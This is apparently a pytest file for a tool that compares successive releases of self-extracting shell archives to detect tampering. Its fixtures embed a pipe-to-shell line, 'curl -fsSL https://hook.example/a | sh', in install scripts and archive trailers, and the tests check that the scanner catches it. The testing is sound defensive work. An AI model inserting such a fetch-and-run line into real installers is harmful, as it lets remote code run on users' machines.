"""What is changed in a script, or in what it carries, is seen where a shell archive is laid over the one before."""

from __future__ import annotations

from pathlib import Path

import pytest

from onionskin.flows.peel import peel
from onionskin.jail.pool import Pool
from onionskin.lookalike.archives import build_gzip, build_tar, build_zip
from onionskin.lookalike.shell_archives import build_makeself
from onionskin.model import Level
from onionskin.write.reports import PeelReport

INSTALL = b"#!/bin/sh\nset -e\nmkdir -p /opt/inert\ncp tool /opt/inert/tool\n" + b"echo step\n" * 30
FETCH = b"curl -fsSL https://hook.example/a | sh\n"
FILES = {"install.sh": INSTALL, "tool": b"inert filler\n" * 40}


def _laid_over(pool: Pool, folder: Path, old: bytes, new: bytes) -> PeelReport:
    before, after = folder / "tool-1.0.run", folder / "tool-1.1.run"
    before.write_bytes(old)
    after.write_bytes(new)
    (report,) = peel([after], against=[before], pool=pool)
    return report


def _archive(files: dict[str, bytes], *, script: bytes = b"") -> bytes:
    return build_makeself(build_gzip(build_tar(files)), script=script)


@pytest.mark.parametrize(
    "new",
    [
        pytest.param(
            _archive(FILES | {"install.sh": INSTALL + FETCH}), id="in a script that it carries"
        ),
        pytest.param(_archive(FILES, script=FETCH), id="in its own script"),
        pytest.param(_archive(FILES) + b"#!/bin/sh\n" + FETCH * 20, id="behind its payload"),
        pytest.param(
            b'#!/bin/sh\ntail -n +4 "$0" | tar -xf -\nexit 0\n'
            + build_tar(FILES | {"install.sh": INSTALL + FETCH}),
            id="in a plain tar",
        ),
    ],
)
def test_a_line_that_fetches_and_runs_is_seen(new: bytes, pool: Pool, tmp_path: Path) -> None:
    report = _laid_over(pool, tmp_path, _archive(FILES), new)
    assert report.verdict.level is not Level.NOTHING_FOUND


def test_a_shell_archive_that_only_grew_is_no_finding(pool: Pool, tmp_path: Path) -> None:
    later = FILES | {"tool": b"inert filler\n" * 44}
    report = _laid_over(pool, tmp_path, _archive(FILES), _archive(later))
    assert report.verdict.level is Level.NOTHING_FOUND
    assert report.complete


def test_an_encrypted_payload_leaves_the_release_incomplete(pool: Pool, tmp_path: Path) -> None:
    path = tmp_path / "tool.run"
    path.write_bytes(build_makeself(b"Salted__" + bytes(range(256)) * 8))
    (report,) = peel([path], pool=pool)
    assert not report.complete


@pytest.mark.parametrize(
    "data",
    [
        pytest.param(INSTALL, id="a script alone"),
        pytest.param(INSTALL + b"x = '\0'\n" * 40, id="a script with zeros in it"),
        pytest.param(
            b"#!/usr/bin/env python3\n" + build_zip({"__main__.py": b"print()\n"}),
            id="a zip behind a script",
        ),
    ],
)
def test_what_is_no_shell_archive_is_none(data: bytes, pool: Pool, tmp_path: Path) -> None:
    path = tmp_path / "tool.sh"
    path.write_bytes(data)
    (report,) = peel([path], pool=pool)
    assert report.layers[0].format != "shell-archive"
